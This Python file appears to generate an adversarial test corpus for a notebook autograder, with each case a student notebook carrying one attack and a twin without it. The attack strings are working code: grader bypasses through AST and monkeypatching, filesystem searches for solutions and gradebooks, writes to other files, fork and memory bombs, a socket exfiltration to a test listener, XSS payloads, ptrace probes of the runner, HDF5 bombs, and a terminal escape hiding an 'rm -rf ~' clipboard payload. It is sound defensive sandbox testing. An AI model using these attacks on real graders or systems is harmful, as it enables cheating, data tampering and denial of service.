"""The adversarial corpus: real submissions of the `mini` practical, one attack each.

Each case is an honest base notebook (the solution, a partial solution or the release) with
one attack; its twin is the same notebook without the attack, graded in the same batch, and
the test asserts the case earns exactly the twin's points (`lose` names the cells whose
exported data the verifier refuses, and so earn 0), shows the tampered flag where the
kernel's verdict was forged or locked cells were changed (a model the verifier does not load
is only refused: it earns nothing, and is not called tampering), and leaves the course unchanged.
The notebooks in cases/ are written by `python grader_tests/adversarial/corpus.py` from this
table; a test checks they are up to date.
"""

from __future__ import annotations

import hashlib
import json
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
MASTER = HERE / "course" / "source" / "mini" / "mini.ipynb"
CASES_DIR = HERE / "cases"
LISTENER_PORT = 47811  # the test's TCP listener on 127.0.0.1
TEST_CELLS = ("test_relu", "test_counts", "test_prepare", "test_onehot", "test_architecture",
              "test_predict", "test_accuracy")

# Edits: ("first", code) a cell added at the top (("first_markdown", text): a markdown cell);
# ("after", grade_id, code) a cell added after
# that cell; ("answer", grade_id, code) an answer's source; ("edit", grade_id, code) a locked
# cell's source; ("meta", grade_id, key, value) its nbgrader metadata; ("tags", grade_id, tags);
# ("delete", grade_id); ("older", grade_id, code): a locked cell as an earlier release had it.
Edit = tuple

WRONG_RELU = ("answer", "relu", "def relu(z):\n    return z")
SMALL_NETWORK = ("answer", "build", "model = keras.Sequential([\n    keras.Input(shape=(784,)),\n"
                 "    keras.layers.Dense(16, activation=\"relu\"),\n    keras.layers.Dense(10, activation=\"softmax\"),\n])\n"
                 "model.compile(loss=\"categorical_crossentropy\", optimizer=\"adam\", metrics=[\"accuracy\"])")
NOT_NORMALISED = ("answer", "prepare", "x_train = im_train.reshape(len(im_train), 784).astype(float)\n"
                  "x_test = im_test.reshape(len(im_test), 784).astype(float)")
NO_TRAINING = ("answer", "train", "hist = None  # pas d'entraînement")

BASES: dict[str, list[Edit]] = {
    "solution": [],
    "partial": [WRONG_RELU, SMALL_NETWORK],  # relu wrong (public check fails), 16 hidden units
    "release": None,  # the untouched release
}

# The attacks' code, as a cheating student would write it.
INPUT_TRANSFORMER = '''# Les cellules de vérification deviennent vides avant d'être exécutées.
def _blank_checks(lines):
    return [] if "Vérification" in "".join(lines) else lines
get_ipython().input_transformers_cleanup.append(_blank_checks)'''

AST_STRIP_ASSERTS = '''import ast
class _NoAssert(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(_NoAssert())'''

AST_SWALLOW_ERRORS = '''import ast
class _Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = [ast.Try(body=[stmt], handlers=[ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])], orelse=[], finalbody=[]) for stmt in node.body]
        return ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(_Swallow())'''

ALWAYS_EQUAL = '''class _Liar(int):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = int.__hash__
nb_train = _Liar(5999)'''

PATCH_COURSE_LIB = '''import course_lib.checks
for _name in ("assert_array", "assert_one_hot", "assert_input_shape", "assert_architecture", "assert_close"):
    setattr(course_lib.checks, _name, lambda *args, **kwargs: None)'''

PATCH_NUMPY = '''import numpy, numpy.testing
numpy.allclose = lambda *args, **kwargs: True
numpy.isclose = lambda *args, **kwargs: True
numpy.testing.assert_allclose = lambda *args, **kwargs: None
numpy.testing.assert_array_equal = lambda *args, **kwargs: None'''

PATCH_BUILTINS = '''import builtins
_real_isinstance = builtins.isinstance
_liar = nb_train
def _isinstance(obj, kinds):
    return True if obj is _liar else _real_isinstance(obj, kinds)
builtins.isinstance = _isinstance'''

PATCH_FIT = '''import keras
keras.Model.fit = lambda self, *args, **kwargs: keras.callbacks.History()'''

PATCH_PREDICT = '''import keras, numpy
from course_lib.data import load_mnist
_labels = load_mnist()[1][1]
def _perfect(self, x, *args, **kwargs):
    return numpy.eye(10, dtype="float32")[_labels[: len(x)]]
keras.Model.predict = _perfect
keras.Model.__call__ = _perfect
keras.Model.evaluate = lambda self, *args, **kwargs: [0.0, 1.0]
keras.Model.count_params = lambda self: 25450'''

FAKE_MODEL = '''class Oracle(keras.Sequential):
    """Un vrai réseau, mais dont predict donne toujours la bonne réponse."""
    def predict(self, x, *args, **kwargs):
        return np.eye(10, dtype="float32")[lab_test[: len(x)]]
model = Oracle([keras.Input(shape=(784,)), keras.layers.Dense(32, activation="relu"),
                keras.layers.Dense(10, activation="softmax")])
model.compile(loss="categorical_crossentropy", optimizer="adam", metrics=["accuracy"])'''

LAMBDA_MODEL = '''model = keras.Sequential([
    keras.Input(shape=(784,)),
    keras.layers.Dense(32, activation="relu"),
    keras.layers.Dense(10, activation="softmax"),
    keras.layers.Lambda(lambda x: x),  # exécuterait du code chez qui recharge le modèle
])
model.compile(loss="categorical_crossentropy", optimizer="adam", metrics=["accuracy"])'''

CUSTOM_LAYER_MODEL = '''@keras.saving.register_keras_serializable(package="triche")
class Shortcut(keras.layers.Layer):
    def call(self, x):
        return x
model = keras.Sequential([
    keras.Input(shape=(784,)),
    keras.layers.Dense(32, activation="relu"),
    keras.layers.Dense(10, activation="softmax"),
    Shortcut(),
])
model.compile(loss="categorical_crossentropy", optimizer="adam", metrics=["accuracy"])'''

# Looks for the course everywhere outside the Python installation: every hit is printed, the
# test asserts there is none.
READ_COURSE = '''import os, sys, glob
_targets = ("gradebook.db", "nbgrader_config.py", "course.toml", "grading.json", "timestamp.txt")
_skipped = tuple({sys.prefix, sys.base_prefix, os.path.expanduser("~")})  # libraries, my own folder
_found = []
for _top, _dirs, _files in os.walk("/"):
    if _top.startswith(("/proc", "/sys", "/dev", "/usr") + _skipped):
        _dirs[:] = []
        continue
    for _name in _files:
        _path = os.path.join(_top, _name)
        if _name in _targets:
            _found.append(_path)
        elif _name.endswith(".ipynb"):
            try:
                if "BEGIN SOLUTION" in open(_path).read():
                    _found.append(_path)
            except OSError:
                pass
_found += glob.glob(os.path.join(os.path.dirname(__import__("course_lib").__file__), "specs", "*.py"))
for _path in _found:
    print("FOUND", _path)
try:
    import course_lib.specs.mini
    print("FOUND hidden checks")
except ImportError:
    pass'''

WRITE_COURSE = '''import os
# Only what is mounted writable can be written: the mount table says where (a walk of every
# file visible takes 3 s with a warm cache, more than the cell's time limit with a cold one).
_mounts = [_line.split()[4] for _line in open("/proc/self/mountinfo") if "rw" in _line.split()[5].split(",")]
_skip = ("/proc", "/sys", "/dev", "/tmp", os.path.expanduser("~"))  # kernels, devices, its own folders
_written = []
for _mount in _mounts:
    if _mount.startswith(_skip) and _mount != "/":
        continue
    for _top, _dirs, _files in os.walk(_mount):
        # Other mounts below are walked on their own, or are read-only.
        _dirs[:] = [_d for _d in _dirs if not os.path.ismount(os.path.join(_top, _d))
                    and not os.path.join(_top, _d).startswith(_skip)]
        for _name in _files + ["planted.txt"]:
            try:
                with open(os.path.join(_top, _name), "a") as _stream:
                    _stream.write("tampered")
                _written.append(os.path.join(_top, _name))
            except OSError:
                pass
for _path in _written:
    print("WROTE", _path)'''

DETACHED = '''import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        # Survit au noyau : réécrit ce qu'il peut pendant une minute.
        for _ in range(60):
            for _path in ("/tmp/detached.txt", os.path.expanduser("~/detached.txt")):
                try:
                    open(_path, "a").write("still alive\\n")
                except OSError:
                    pass
            time.sleep(1)
    os._exit(0)
time.sleep(0.5)'''

NETWORK = f'''import socket
try:
    with socket.create_connection(("127.0.0.1", {LISTENER_PORT}), timeout=3) as _sock:
        _sock.sendall(b"stolen data")
        print("CONNECTED")
except OSError as _error:
    print("no network:", type(_error).__name__)'''

FORK_BOMB = '''import os
if os.fork() == 0:
    while True:
        try:
            os.fork()
        except OSError:
            pass'''

MEMORY_BOMB = '''_hog = []
while True:
    _hog.append(bytearray(256 * 1024 * 1024))
    _hog[-1][::4096] = b"x" * len(_hog[-1][::4096])'''

# Everything formgrader could run in the instructor's browser: a script and event handlers in
# markdown (an added cell and the written answer), links and images to javascript: URLs,
# scripts, frames and objects in HTML outputs, JavaScript and widget outputs, an SVG with a
# script and a handler, an image whose metadata would write an attribute. Each one, run,
# would call the canary URL or the contents API, or set window.__pwned.
CANARY = "http://127.0.0.1:47812/canary"
PAYLOAD = f"window.__pwned=1;fetch(`{CANARY}`);fetch(`/api/contents/pwned.txt`,{{method:`PUT`}})"
SCRIPT_MARKDOWN = (f'Mon analyse <script>{PAYLOAD}</script> <img src="x" onerror="{PAYLOAD}">\n\n'
                   f'[la suite](javascript:{PAYLOAD}) <iframe src="{CANARY}"></iframe>')
HTML_OUTPUTS = f'''from IPython.display import HTML, Javascript, SVG, Markdown, Image, display
display(HTML(\'<b>ok</b><script>{PAYLOAD}</script><img src=x onerror="{PAYLOAD}"><iframe src="{CANARY}"></iframe>\'
             \'<object data="{CANARY}"></object><a href="javascript:{PAYLOAD}">clic</a><form action="{CANARY}"><button formaction="javascript:{PAYLOAD}">b</button></form>\'))
display(Javascript("{PAYLOAD}"))
display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="{PAYLOAD}"><script>{PAYLOAD}</script><rect width="5" height="5"/><foreignObject><iframe src="{CANARY}"></iframe></foreignObject></svg>\'))
display(Markdown(\'[clic](javascript:{PAYLOAD}) <script>{PAYLOAD}</script>\'))
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "x", "version_major": 2, "version_minor": 0}},
         "text/html": \'<style>body{{background:url({CANARY})}}</style>\'}}, raw=True)
display({{"image/png": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="}},
        metadata={{"image/png": {{"width": \'1 onerror="{PAYLOAD}"\'}}}}, raw=True)'''

# The kernel looks for the runner that reports on it: in its process table, through every
# pid it can name, by signals, tracing, pidfd_getfd and process_vm_readv; it would then write
# a forged report on the runner's stdout. Each success prints REACHED.
REACH_RUNNER = '''import ctypes, os, signal
_libc = ctypes.CDLL(None, use_errno=True)
_mine = os.getpid()
for _pid in range(1, 4096):
    try:
        _cmd = open(f"/proc/{_pid}/cmdline", "rb").read()
        if f"Tgid:\\t{_mine}\\n" in open(f"/proc/{_pid}/status").read() or b"bwrap" in _cmd:
            continue  # this kernel, one of its threads, or its own sandbox's first process
    except OSError:
        continue
    if b"runner" in _cmd:
        print("REACHED the runner's command line", _pid)
    for _how, _try in (("signal", lambda: os.kill(_pid, signal.SIGSTOP)),
                       ("stdout", lambda: open(f"/proc/{_pid}/fd/1", "w").write('{"forged": 1}'))):
        try:
            _try()
            print("REACHED", _how, _pid)
        except OSError:
            pass
    if _libc.syscall(101, 16, _pid, 0, 0) == 0:  # PTRACE_ATTACH
        print("REACHED ptrace", _pid)
    _fd = _libc.syscall(434, _pid, 0)  # pidfd_open
    if _fd >= 0 and _libc.syscall(438, _fd, 1, 0) >= 0:  # pidfd_getfd: its stdout
        print("REACHED pidfd_getfd", _pid)
print("searched")'''

# The kernel key rings: a key left for, or read from, another sandbox of the machine.
KEYRING = '''import ctypes, platform
_libc = ctypes.CDLL(None, use_errno=True)
_add_key, _request_key = {"x86_64": (248, 249), "aarch64": (217, 218)}[platform.machine()]
_added = _libc.syscall(_add_key, b"user", b"course-secret", b"alice-answers", 13, -4 & 0xFFFFFFFF)  # @u
_found = _libc.syscall(_request_key, b"user", b"course-secret", None, -4 & 0xFFFFFFFF)
if _added >= 0 or _found >= 0:
    print("KEYRING OPEN", _added, _found)
print("keyring", ctypes.get_errno())'''

# A folder tree deeper than Python's recursion limit, and a folder nobody may read, in the
# notebook's folder: its removal must neither fail nor stop the batch.
DEEP_TREE = '''import os
_fd = os.open(".", os.O_RDONLY)
for _ in range(3000):
    os.mkdir("d", dir_fd=_fd)
    _next = os.open("d", os.O_RDONLY, dir_fd=_fd)
    os.close(_fd)
    _fd = _next
os.close(_fd)
os.mkdir("locked", mode=0o000)'''

# Every save of a model writes it with a weights file whose first array declares 12.8 GB (a
# dataset never written: HDF5 reads it as zeros), the kind of file that kills the verifier
# that loads it.
HDF5_BOMB = '''import keras, h5py, zipfile, tempfile, shutil, os
_save = keras.Model.save
def _bomb_save(self, path, *args, **kwargs):
    _save(self, path, *args, **kwargs)
    _folder = tempfile.mkdtemp()
    with zipfile.ZipFile(path) as _archive:
        _archive.extractall(_folder)
    with h5py.File(os.path.join(_folder, "model.weights.h5"), "r+") as _weights:
        _names = []
        _weights.visititems(lambda name, item: _names.append(name) if isinstance(item, h5py.Dataset) else None)
        del _weights[_names[0]]
        _weights.create_dataset(_names[0], shape=(100_000, 32_000), dtype="float32", fillvalue=0.0)
    with zipfile.ZipFile(path, "w") as _archive:
        for _name in os.listdir(_folder):
            _archive.write(os.path.join(_folder, _name), _name)
    shutil.rmtree(_folder)
keras.Model.save = _bomb_save'''

# The same model, declaring 784 × 3,000,000 weights in its config (9.4 GB once built).
HUGE_DECLARED = '''import keras, json, zipfile, tempfile, shutil, os
_save = keras.Model.save
def _huge_save(self, path, *args, **kwargs):
    _save(self, path, *args, **kwargs)
    with zipfile.ZipFile(path) as _archive:
        _files = {_name: _archive.read(_name) for _name in _archive.namelist()}
    _config = json.loads(_files["config.json"])
    _config["config"]["layers"][1]["config"]["units"] = 3_000_000
    _files["config.json"] = json.dumps(_config).encode()
    with zipfile.ZipFile(path, "w") as _archive:
        for _name, _data in _files.items():
            _archive.writestr(_name, _data)
keras.Model.save = _huge_save'''

# Output that updates a display: 20 outputs share one display id, each update (1 MB) rewrites
# all of them, 100 times.
DISPLAY_UPDATES = '''from IPython.display import display, update_display
for _ in range(20):
    display("x", display_id="flood")
for _ in range(100):
    update_display("y" * 1_000_000, display_id="flood")'''

# Files nobody asked for in the exports' folder, sparse (no disk used in the sandbox) but
# each as long as the sandbox's file-size limit allows, as the cache would keep them.
SPARSE_EXPORTS = '''import os
for _cell in ("test_relu", "test_accuracy", "test_unknown"):
    os.makedirs(f".grader/exports/{_cell}", exist_ok=True)
    for _name in ("unasked.npy", "model.keras.bak", "extra.keras"):
        with open(f".grader/exports/{_cell}/{_name}", "wb") as _stream:
            _stream.truncate(60 << 20)'''

# An error message written for the instructor's terminal: set the clipboard (OSC 52), erase
# the line, print a fake grade, reorder text.
TERMINAL_ESCAPES = r'''raise Exception("\x1b]52;c;cm0gLXJmIH4K\x07\x1b[2K\rgraded 23/23 \u202egnissap\x9b31m")'''

OLDER_IMPORTS = "import numpy as np\nimport keras\n\nfrom course_lib.data import load_mnist\n\nkeras.utils.set_random_seed(1234)  # version 1"

INFINITE_LOOP = "while True:\n    pass"
OUTPUT_FLOOD = 'import sys\nfor _ in range(100):\n    sys.stdout.write("x" * 1_000_000 + "\\n")'
OS_EXIT = "import os\nos._exit(0)"
SYS_EXIT = "import sys\nsys.exit(0)"


@dataclass(frozen=True)
class Case:
    """One attack: its base and edits, its twin, what it must lose, whether it is flagged."""

    base: str
    edits: list[Edit]
    twin: str
    tampered: bool
    lose: tuple[str, ...] = ()
    status: str = "graded"
    bomb: bool = False  # contained by the limits: its own points are not compared
    extra: dict = field(default_factory=dict)


TWINS: dict[str, tuple[str, list[Edit]]] = {
    "twin_solution": ("solution", []),
    "twin_partial": ("partial", []),
    "twin_nb_train_5999": ("partial", [("after", "load", "nb_train = 5999")]),
    "twin_not_normalised": ("partial", [NOT_NORMALISED]),
    "twin_nb_train_float": ("partial", [("after", "load", "nb_train = 6000.0")]),
    "twin_untrained": ("partial", [NO_TRAINING]),
    "twin_release": ("release", []),
}

CASES: dict[str, Case] = {
    "skip_execution_tag": Case("partial", [("tags", cell, ["skip-execution"]) for cell in TEST_CELLS],
                               "twin_partial", tampered=True),
    "input_transformer": Case("partial", [("first", INPUT_TRANSFORMER)], "twin_partial", tampered=True),
    "input_transformer_on_release": Case("release", [("first", INPUT_TRANSFORMER)], "twin_release", tampered=True),
    "ast_strip_asserts": Case("partial", [("first", AST_STRIP_ASSERTS)], "twin_partial", tampered=True),
    "ast_swallow_errors": Case("partial", [("first", AST_SWALLOW_ERRORS)], "twin_partial", tampered=True),
    "eq_always_true": Case("partial", [("after", "load", ALWAYS_EQUAL)], "twin_nb_train_5999", tampered=True),
    "monkeypatch_course_lib_checks": Case("partial", [NOT_NORMALISED, ("first", PATCH_COURSE_LIB)],
                                          "twin_not_normalised", tampered=True),
    "monkeypatch_numpy_testing": Case("partial", [("first", PATCH_NUMPY)], "twin_partial", tampered=True),
    # Inserted after "load" in turn: the float is assigned first, then isinstance is patched.
    "monkeypatch_builtins": Case("partial", [("after", "load", PATCH_BUILTINS), ("after", "load", "nb_train = 6000.0")],
                                 "twin_nb_train_float", tampered=True),
    "monkeypatch_keras_fit": Case("partial", [("first", PATCH_FIT)], "twin_untrained", tampered=False),
    "monkeypatch_keras_predict_call_evaluate_count_params": Case(
        "partial", [NO_TRAINING, ("after", "train", PATCH_PREDICT)], "twin_untrained", tampered=False),
    "fake_model_object": Case("partial", [("after", "build", FAKE_MODEL)], "twin_partial", tampered=False,
                              lose=("test_architecture", "test_accuracy")),
    "lambda_layer_in_model": Case("partial", [("answer", "build", LAMBDA_MODEL)], "twin_partial", tampered=False,
                                  lose=("test_architecture", "test_accuracy")),
    "custom_layer_in_model": Case("partial", [("answer", "build", CUSTOM_LAYER_MODEL)], "twin_partial", tampered=False,
                                  lose=("test_architecture", "test_accuracy")),
    "edited_test_cells": Case("partial", [("edit", "test_relu", "pass"), ("edit", "test_prepare", "x_train = 1")],
                              "twin_partial", tampered=True),
    "edited_cell_metadata": Case("partial", [("meta", "test_relu", "points", 100), ("meta", "test_counts", "grade", False),
                                             ("meta", "relu", "locked", True)], "twin_partial", tampered=True),
    "deleted_test_cells": Case("partial", [("delete", "test_relu"), ("delete", "test_accuracy")],
                               "twin_partial", tampered=True),
    "read_solution_hidden_tests_gradebook": Case("solution", [("first", READ_COURSE)], "twin_solution", tampered=False,
                                                 extra={"absent": "FOUND"}),
    "write_gradebook_and_other_students": Case("solution", [("first", WRITE_COURSE)], "twin_solution", tampered=False),
    "detached_process": Case("solution", [("first", DETACHED)], "twin_solution", tampered=False),
    "network_to_loopback_listener": Case("solution", [("first", NETWORK)], "twin_solution", tampered=False,
                                         extra={"absent": "CONNECTED"}),
    "output_100mb": Case("solution", [("after", "relu", OUTPUT_FLOOD)], "twin_solution", tampered=False),
    "sys_exit": Case("solution", [("after", "relu", SYS_EXIT)], "twin_solution", tampered=False),
    "os_exit": Case("solution", [("after", "test_counts", OS_EXIT)], "twin_solution", tampered=False,
                    lose=("test_prepare", "test_onehot", "test_architecture", "test_predict", "test_accuracy"),
                    status="kernel-died"),
    "infinite_loop": Case("solution", [("after", "test_counts", INFINITE_LOOP)], "twin_solution", tampered=False,
                          lose=("test_prepare", "test_onehot", "test_architecture", "test_predict", "test_accuracy"),
                          status="timeout"),
    "fork_bomb": Case("solution", [("after", "test_counts", FORK_BOMB)], "twin_solution", tampered=False, bomb=True),
    "memory_bomb": Case("solution", [("after", "test_counts", MEMORY_BOMB)], "twin_solution", tampered=False,
                        lose=("test_prepare", "test_onehot", "test_architecture", "test_predict", "test_accuracy"),
                        status="kernel-died"),
    "script_in_markdown_and_outputs": Case(
        "solution", [("first_markdown", SCRIPT_MARKDOWN), ("answer", "answer_why", SCRIPT_MARKDOWN),
                     ("after", "relu", HTML_OUTPUTS)], "twin_solution", tampered=False),
    "kernel_reaches_for_the_runner": Case("solution", [("first", REACH_RUNNER)], "twin_solution", tampered=False,
                                          extra={"absent": "REACHED"}),
    "kernel_keyring": Case("solution", [("first", KEYRING)], "twin_solution", tampered=False,
                           extra={"absent": "KEYRING OPEN"}),
    "deep_folder_tree": Case("solution", [("first", DEEP_TREE)], "twin_solution", tampered=False),
    "hdf5_bomb_in_model": Case("solution", [("after", "build", HDF5_BOMB)], "twin_solution", tampered=False,
                               lose=("test_architecture", "test_accuracy")),
    "huge_declared_model": Case("solution", [("after", "build", HUGE_DECLARED)], "twin_solution", tampered=False,
                                lose=("test_architecture", "test_accuracy")),
    "display_updates_flood": Case("solution", [("after", "relu", DISPLAY_UPDATES)], "twin_solution", tampered=False),
    "sparse_files_in_exports": Case("solution", [("after", "test_accuracy", SPARSE_EXPORTS)], "twin_solution",
                                    tampered=False),
    # Made from an earlier release: a given cell the instructor has since changed, no relu test yet.
    "earlier_release_notebook": Case("solution", [("older", "imports", OLDER_IMPORTS), ("delete", "test_relu")],
                                     "twin_solution", tampered=False, extra={"earlier_release": True}),
    "terminal_escapes_in_an_error": Case("solution", [("after", "relu", TERMINAL_ESCAPES)], "twin_solution",
                                         tampered=False),
}


def _by_id(notebook: nbformat.NotebookNode) -> dict[str, int]:
    return {c.metadata.get("nbgrader", {}).get("grade_id"): i for i, c in enumerate(notebook.cells)}


def build(base: str, edits: list[Edit], release: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """The base notebook (a copy of the release with the master's answers) with `edits`."""
    notebook = nbformat.from_dict(json.loads(json.dumps(release)))
    master = {c.metadata["nbgrader"]["grade_id"]: c.source for c in nbformat.read(MASTER, 4).cells}
    if BASES[base] is not None:
        for cell in notebook.cells:
            meta = cell.metadata["nbgrader"]
            if meta.get("solution"):
                cell.source = master[meta["grade_id"]]
        edits = BASES[base] + edits
    for edit in edits:
        _apply(notebook, edit)
    return notebook


def _apply(notebook: nbformat.NotebookNode, edit: Edit) -> None:
    kind, *args = edit
    if kind in ("first", "first_markdown"):
        notebook.cells.insert(0, _new_cell(args[0], markdown=kind == "first_markdown"))
        return
    index = _by_id(notebook)[args[0]]
    cell = notebook.cells[index]
    if kind == "after":
        notebook.cells.insert(index + 1, _new_cell(args[1]))
    elif kind in ("answer", "edit"):
        cell.source = args[1]
    elif kind == "meta":
        cell.metadata["nbgrader"][args[1]] = args[2]
    elif kind == "tags":
        cell.metadata["tags"] = args[1]
    elif kind == "delete":
        del notebook.cells[index]
    elif kind == "older":  # the cell as an earlier release had it, with nbgrader's checksum of it
        from nbgrader.utils import compute_checksum

        cell.source = args[1]
        cell.metadata["nbgrader"]["checksum"] = compute_checksum(cell)
    else:
        raise ValueError(f"unknown edit {kind}")


def _new_cell(source: str, markdown: bool = False) -> nbformat.NotebookNode:
    """A cell the student added; its id comes from its source, so builds are repeatable."""
    cell = nbformat.v4.new_markdown_cell(source) if markdown else nbformat.v4.new_code_cell(source)
    cell.id = hashlib.sha256(source.encode()).hexdigest()[:8]
    return cell


def notebooks(release: nbformat.NotebookNode) -> dict[str, nbformat.NotebookNode]:
    """Every case and twin, by name."""
    built = {name: build(base, edits, release) for name, (base, edits) in TWINS.items()}
    built |= {name: build(case.base, case.edits, release) for name, case in CASES.items()}
    return built


def write_all(release_path: Path) -> None:
    CASES_DIR.mkdir(exist_ok=True)
    for name, notebook in notebooks(nbformat.read(release_path, 4)).items():
        nbformat.write(notebook, CASES_DIR / f"{name}.ipynb")


if __name__ == "__main__":
    import sys

    write_all(Path(sys.argv[1]))  # the release of mini, e.g. from a course made by e2e.mini_course
